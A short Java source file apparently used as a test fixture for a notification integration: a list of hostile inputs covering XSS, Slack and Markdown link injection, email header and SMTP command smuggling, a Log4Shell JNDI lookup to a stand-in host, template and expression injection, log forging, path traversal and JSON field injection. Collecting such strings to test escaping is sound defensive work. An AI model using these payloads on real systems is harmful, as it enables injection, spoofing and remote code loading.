package io.firewatch.integrations.notice;

import java.util.List;

/** What telemetry, labels and commit messages may contain when somebody means harm. */
public final class Attacks {
  public static final List<String> ALL =
      List.of(
          "<script>alert(1)</script><img src=x onerror=alert(1)>",
          "</td></table><style>*{display:none}</style><a href=\"javascript:alert(1)\">x</a>",
          "\" onmouseover=\"alert(1)\" style=\"position:fixed",
          "<!channel> <@U123> <http://evil.example|click>",
          "*bold* _it_ ~no~ `code` [a](http://evil.example) # h",
          "Subject: x\r\nBcc: all@example.org\r\n\r\nbody",
          "x\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<all@example.org>\r\nDATA\r\n",
          "=?utf-8?q?forged?= --boundary\r\nContent-Type: text/html\r\n\r\n<b>x</b>",
          "${jndi:ldap://evil.example/a} {{7*7}} #{T(java.lang.Runtime)}",
          "2026-03-01 10:00:00 INFO all is well\n2026-03-01 ERROR forged",
          "../../../etc/passwd\u202egnp.exe\u0000\u001b[31m",
          "\"},\"event_action\":\"resolve\",\"x\":{\"");

  private Attacks() {}
}
